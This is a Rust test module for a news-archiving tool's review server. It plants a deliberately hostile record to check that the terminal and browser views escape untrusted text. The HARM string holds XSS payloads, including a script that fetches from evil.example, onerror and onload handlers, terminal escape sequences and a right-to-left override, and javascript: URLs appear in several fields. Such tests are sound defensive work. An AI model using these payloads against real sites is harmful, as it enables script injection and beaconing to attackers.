//! Reviewing an archive: at the terminal, over HTTP, and in a real browser.

mod browser;
mod driver;
mod pages;
mod terminal;

use std::{
    io::{BufRead, BufReader},
    process::{Child, Stdio},
};

use newswatch::{
    archive::{Archive, Record, Settings},
    jsonl::Folder,
};
use serde_json::{Value, json};

use crate::support::workspace::{Workspace, first_edition};

/// A workspace with the demo's archive in both editions, and a record made to do harm.
async fn office() -> Workspace {
    let (site, workspace) = first_edition().await;
    workspace.run(&["once"]).expect(&[3]);
    site.advance();
    workspace.run(&["once"]).expect(&[3]);
    workspace
}

/// Every text that the web fills in, filled with what must stay text.
const HARM: &str = "</title><script>document.documentElement.dataset.harmed='1';\
fetch('http://evil.example/beacon')</script><img src=http://evil.example/i.png onerror=\"document.documentElement.dataset.harmed='2'\">\
\u{1b}]0;owned\u{7}\u{1b}[2J\u{202e}'\"><svg/onload=alert(1)>";

/// Appends a hostile record; gives its id.
fn append_harm(workspace: &Workspace) -> String {
    let records = workspace.records();
    let mut value = records[0].clone();
    for (key, field) in value.as_object_mut().unwrap() {
        let keeps = [
            "record_type",
            "id",
            "url_key",
            "published_source",
            "published_precision",
            "text_status",
            "duplicate_class",
            "prev",
            "crc",
            "crawler_version",
            "revision_of",
            "cluster_id",
            "duplicate_of",
        ];
        if keeps.contains(&key.as_str()) || key.ends_with("_at") {
            continue;
        }
        match field {
            Value::String(text) => HARM.clone_into(text),
            Value::Array(list) if !["matches", "images"].contains(&key.as_str()) => {
                *list = vec![HARM.into()];
            }
            _ => {}
        }
    }
    let id = "a_00000000000000000000000000".to_owned();
    value["id"] = id.clone().into();
    value["cluster_id"] = id.clone().into();
    value["url_key"] = "evil.example/harm".into();
    value["url"] = "javascript:document.documentElement.dataset.harmed='3'".into();
    value["final_url"] = value["url"].clone();
    value["image_url"] = "javascript:alert(1)".into();
    value["images"] = json!([{ "url": "javascript:alert(1)", "caption": HARM }]);
    value["title"] = format!("Zugzwang {HARM}").into();
    value["extraction"]["method"] = HARM.into();
    value["extraction"]["warnings"] = vec![HARM].into();
    let record: Record = serde_json::from_value(value).unwrap();
    let folder = Folder::at(workspace.path().join("archive"));
    let (mut archive, _) = Archive::open(folder, Settings::default(), None).unwrap();
    let now = record.fetched_at;
    archive.append(&mut [record], now).unwrap();
    id
}

/// `newswatch review`, until it is dropped.
pub(crate) struct Served {
    child: Child,
    /// `http://127.0.0.1:port`
    origin: String,
}

impl Served {
    pub(crate) fn start(workspace: &Workspace, more: &[&str]) -> Self {
        let mut args = vec!["review", "--no-open", "--port", "0"];
        args.extend(more);
        let mut command = workspace.command(&args);
        let mut child = command.stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
        let line = line.trim();
        let origin = line.split("/login").next().unwrap().trim_end_matches('/').to_owned();
        assert!(origin.starts_with("http://"), "{line:?}");
        Self { child, origin }
    }

    pub(crate) fn address(&self) -> &str {
        self.origin.strip_prefix("http://").unwrap()
    }
}

impl Drop for Served {
    fn drop(&mut self) {
        self.child.kill().unwrap();
        self.child.wait().unwrap();
    }
}
